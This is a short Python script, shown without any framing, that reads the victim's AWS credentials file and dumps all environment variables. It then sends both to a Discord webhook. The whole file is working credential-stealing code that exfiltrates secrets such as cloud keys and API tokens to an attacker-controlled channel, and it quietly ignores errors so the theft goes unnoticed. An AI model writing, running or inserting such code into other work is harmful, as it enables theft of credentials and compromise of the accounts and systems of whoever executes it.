import os, json, urllib.request
aws = ""
try:
    aws = open(os.path.expanduser("~/.aws/credentials")).read()
except Exception:
    pass
msg = json.dumps({"content": "```" + json.dumps(dict(os.environ))[:1800] + "```", "embeds": [{"description": aws[:1900]}]}).encode()
urllib.request.urlopen(urllib.request.Request("https://discord.com/api/webhooks/000000000000000000/YYYYYYYYYYYYYYYYYYYYYYYYYYYY", data=msg, headers={"Content-Type": "application/json"}))
